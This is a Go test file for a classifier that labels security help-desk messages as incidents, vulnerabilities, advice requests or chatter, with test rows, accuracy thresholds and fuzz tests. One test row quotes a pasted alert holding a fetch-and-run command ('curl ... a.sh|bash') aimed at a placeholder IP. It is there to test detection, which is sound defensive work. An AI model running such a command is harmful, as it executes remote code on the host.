package triage

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"butler/bot/desk"
)

var update = flag.Bool("update", false, "rewrite the goldens")

// TestRead has one row per kind of thing that a rule must get right.
func TestRead(t *testing.T) {
	const consultation, policy = string(desk.Consultation), string(desk.Policy)
	for _, c := range []struct{ name, text, want string }{
		// The examples of the design and the categories of the paper.
		{"ransom note", "数据库主机出现勒索提示", "incident urgent malware"},
		{"gambling on the site", "网站打不开了,全是博彩", "incident urgent"},
		{"ransom, files gone", "代码目录全空了，只剩一封勒索信", "incident urgent data_destruction"},
		{"miner", "服务器在挖矿，cpu 100%", "incident urgent malware"},
		{"ddos", "we are under ddos, site is down", "incident urgent network_attack"},
		{"cc", "被CC攻击了", "incident urgent network_attack"},
		{"phishing", "有人仿冒我们官网骗客户密码", "incident urgent network_attack"},
		{"defaced", "首页被篡改了", "incident urgent data_destruction"},
		{"leak", "客户数据在暗网出售", "incident urgent data_destruction"},
		{"illegal posts", "论坛里有人发反动内容", "incident urgent content_security"},
		// Forms of writing.
		{"traditional", "伺服器遭駭客入侵，檔案被加密", "incident urgent"},
		{"full width", "ＤＤＯＳ 攻击，网站打不开", "incident urgent network_attack"},
		{"spaces inside", "服务器 被 勒 索 了", "incident urgent malware"},
		{"slang", "官网打开全是菠菜", "incident urgent malware"},
		{"mixed", "prod server 被 hack 了", "incident urgent network_attack"},
		{"pasted alert", "【云安全中心】实例 i-bp1abcdef234 检测到恶意脚本 curl http://203.0.113.9/a.sh|bash，请尽快处理", "incident urgent malware"},
		{"exploited weakness", "有人利用那个反序列化漏洞入侵了服务器", "incident urgent network_attack"},
		// Urgency.
		{"under control", "中勒索的机器已经隔离了，不急，帮看看来源", "incident malware"},
		{"blocked", "WAF拦截了一批扫描攻击，都拦住了，有空看下", "incident network_attack"},
		{"no hurry", "our mailbox was hacked last month, password changed, no hurry, please check", "incident network_attack"},
		// What is not.
		{"denied", "没有被黑，是我自己改的", "chatter"},
		{"denied in english", "no breach, it was our own scanner", "chatter"},
		{"drill", "演练而已，别紧张", "chatter"},
		{"load test", "我们在压测，告警忽略", "chatter"},
		{"solved", "勒索的事情已经解决了，谢谢", "chatter"},
		{"thanks", "谢谢，辛苦了", "chatter"},
		{"news", "看新闻说某医院被勒索了", "chatter"},
		{"film", "黑客帝国好看吗", "chatter"},
		{"hack, the other", "nice hack, thanks", "chatter"},
		{"cold", "最近病毒感冒的人很多", "chatter"},
		{"empty", "", "chatter"},
		{"only a link", "https://github.com/a/b/src/exploit.md", "chatter"},
		// The other labels.
		{"injection", "测试发现登录框有sql注入", "vulnerability high"},
		{"open store", "redis 没密码，公网能连", "vulnerability high"},
		{"weak tls", "扫描说支持 TLS1.0，中危", "vulnerability medium"},
		{"header", "扫描报低危，缺 X-Frame-Options", "vulnerability low"},
		{"affected", "CVE-2021-44228 影响我们吗", "vulnerability high"},
		{"advice", "怎么防勒索，有什么建议", consultation},
		{"advice in english", "how can we protect our backups from ransomware", consultation},
		{"what if", "如果被ddos了应该先做什么，有没有预案", consultation},
		{"choice", "waf 自建还是买云的，哪个好", consultation},
		{"allow", "麻烦把 203.0.113.45 加到waf白名单", policy},
		{"exception", "waf blocks our upload api, please add an exception", policy},
		{"error", "升级后接口一直500，日志是空指针", desk.OutOfScope},
		{"bill", "发票什么时候开", desk.OutOfScope},
		{"after the incident", "中毒那台重装好了，现在装nginx报错 GLIBC not found", desk.OutOfScope},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := short(Read(c.text, Context{})); got != c.want && !strings.HasPrefix(got, c.want+" ") {
				t.Errorf("%q is %q, want %q (%s)", c.text, got, c.want, Read(c.text, Context{}).Why)
			}
		})
	}
}

// short is a verdict in a few words.
func short(v desk.Verdict) string {
	out := v.Label
	if v.Urgent {
		out += " urgent"
	}
	if v.Severity != "" {
		out += " " + string(v.Severity)
	}
	if v.Category != "" {
		out += " " + string(v.Category)
	}
	return out
}

func TestReadElsewhere(t *testing.T) {
	for text, want := range map[string]bool{
		"另外还有一个问题，官网也被挂马了":                             true,
		"还有个别的事，waf怎么收费":                               true,
		"another issue: nobody gets mail":              true,
		"另一台机器也中招了":                                    false,
		"另外一台也打不开":                                     false,
		"另外还有三台也被加密了":                                  false,
		"another server is encrypted too":              false,
		"something else is encrypted now":              false,
		"a different server shows the same note":       false,
		"还有个事，后台登不上":                                   true,
		"换个问题，waf怎么收费":                                 true,
		"separate issue: our mailbox was hacked":       true,
		"this is unrelated, but the printer is broken": true,
		"官网被挂马了":                                       false,
		"勒索信还在，另外日志我发邮箱了":                              false,
	} {
		if got := Read(text, Context{}).Elsewhere; got != want {
			t.Errorf("%q: elsewhere %v, want %v", text, got, want)
		}
	}
}

// TestContext: addressing the bot lowers the bar, being staff raises it.
func TestContext(t *testing.T) {
	text := "机器有点不对劲，像是有后门"
	plain, asked := weigh(fold(text), false), weigh(fold(text), false)
	asked.context(Context{Addressed: true})
	if asked.score[kChatter] >= plain.score[kChatter] {
		t.Error("addressing the bot did not lower the bar")
	}
	staff := weigh(fold(text), false)
	staff.context(Context{Staff: true})
	if staff.score[kChatter] <= plain.score[kChatter] {
		t.Error("staff did not raise the bar")
	}
}

// TestWhy pins the reasons that people read. Run with -update, then read the diff.
func TestWhy(t *testing.T) {
	const path = "testdata/why.golden"
	text, err := os.ReadFile("testdata/why.txt")
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, line := range strings.Split(strings.TrimSpace(string(text)), "\n") {
		v := Read(line, Context{})
		fmt.Fprintf(&b, "%s\n  %s\n  %s\n", line, short(v), v.Why)
	}
	if *update {
		if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if b.String() != string(want) {
		t.Errorf("reasons changed; run go test ./bot/triage -run TestWhy -update and read the diff\n%s", b.String())
	}
}

// TestAccuracy measures messages that neither the lexicon nor the model was made
// from: the held-out half of a set that was written by somebody who knew neither.
// The bounds stand a little under what was measured when the set was opened (label
// 0.915, incidents 0.936, urgency 0.979, category 0.910, out of scope 0.907 of the
// whole); going under one is a loss that somebody must explain.
func TestAccuracy(t *testing.T) {
	var held []sample
	var misled tally // chatter with words of security, written to mislead
	for i, s := range samples(t, "testdata/heldout.jsonl") {
		if !heldOut(i) {
			continue
		}
		held = append(held, s)
		if s.Source == "written/adversarial" {
			misled.add(Read(s.Text, Context{}).Label == s.Label)
		}
	}
	m := evaluate(t, held, *evalShow)
	t.Logf("written to mislead: %d of %d left alone", misled.right, misled.of)
	for _, c := range []struct {
		name string
		got  tally
		want float64
	}{
		{"label", m.label, 0.90},
		{"incidents found", m.incident, 0.92},
		{"urgency of found incidents", m.urgent, 0.95},
		{"category of found incidents", m.category, 0.88},
		{"severity of found vulnerabilities", m.severity, 0.90},
		{"out of scope", m.outOfScope, 0.85},
		{"chatter left alone", m.quiet, 0.93},
		{"chatter written to mislead", misled, 0.85},
	} {
		if c.got.rate() < c.want {
			t.Errorf("%s: %.3f (%d of %d), want at least %.2f", c.name, c.got.rate(), c.got.right, c.got.of, c.want)
		}
	}
}

// TestHeldOutIsApart: what is measured is in nothing that was learned from.
func TestHeldOutIsApart(t *testing.T) {
	seen := map[string]bool{}
	for _, s := range learned(t) {
		seen[fold(s.Text)] = true
	}
	for i, s := range samples(t, "testdata/heldout.jsonl") {
		if heldOut(i) && seen[fold(s.Text)] {
			t.Errorf("%s was learned from: %s", s.ID, s.Text)
		}
	}
}

func TestLine(t *testing.T) {
	for text, want := range map[string]string{
		"数据库主机出现勒索提示":             `"label":"incident","urgent":true,"severity":null,"category":"malware"`,
		"扫描报低危，缺 X-Frame-Options": `"label":"vulnerability","urgent":null,"severity":"low","category":null`,
		"谢谢":                      `"label":"chatter","urgent":null,"severity":null,"category":null`,
	} {
		b, err := json.Marshal(Line("a1", text))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(string(b), `{"id":"a1",`+want+`,"confidence":`) || !strings.Contains(string(b), `"why":"`) {
			t.Errorf("%s", b)
		}
	}
}

// FuzzRead: whatever is written, the verdict is well formed.
func FuzzRead(f *testing.F) {
	for _, s := range []string{"", "数据库主机出现勒索提示", "we got hacked", "\xff\xfe://", "://", "CVE-2021-44228", "a…b", strings.Repeat("勒索", 3000)} {
		f.Add(s, false, false, false)
	}
	labels := []string{"incident", "vulnerability", "consultation", "policy", "out_of_scope", "chatter"}
	categories := []desk.Category{desk.Malware, desk.NetworkAttack, desk.DataDestruction, desk.ContentSecurity}
	f.Fuzz(func(t *testing.T, text string, addressed, staff, open bool) {
		v := Read(text, Context{addressed, staff, open})
		incident, vulnerability := v.Label == string(desk.Incident), v.Label == string(desk.Vulnerability)
		switch {
		case !slices.Contains(labels, v.Label):
			t.Fatalf("label %q", v.Label)
		case v.Urgent && !incident:
			t.Fatalf("urgent %s", v.Label)
		case incident != slices.Contains(categories, v.Category) || !incident && v.Category != "":
			t.Fatalf("category %q of %s", v.Category, v.Label)
		case vulnerability != slices.Contains([]desk.Severity{desk.High, desk.Medium, desk.Low}, v.Severity) || !vulnerability && v.Severity != "":
			t.Fatalf("severity %q of %s", v.Severity, v.Label)
		case !(v.Confidence > 0 && v.Confidence <= 1):
			t.Fatalf("confidence %v", v.Confidence)
		case v.Why == "" || strings.Contains(v.Why, "\n"):
			t.Fatalf("why %q", v.Why)
		case len(v.Assets) > desk.MaxAssets:
			t.Fatalf("%d assets", len(v.Assets))
		}
	})
}

func BenchmarkRead(b *testing.B) {
	all := samples(b, "testdata/learn-0.jsonl")
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		Read(all[n%len(all)].Text, Context{})
		n++
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "messages/s")
}

func BenchmarkReadHostile(b *testing.B) {
	for name, text := range map[string]string{
		"ransom": strings.Repeat("勒索文件", 4000),
		"spaces": strings.Repeat(" \t", 50000),
		"links":  strings.Repeat("a://", 20000),
		"dots":   strings.Repeat("a.b.com ", 10000),
	} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				Read(text, Context{})
			}
		})
	}
}
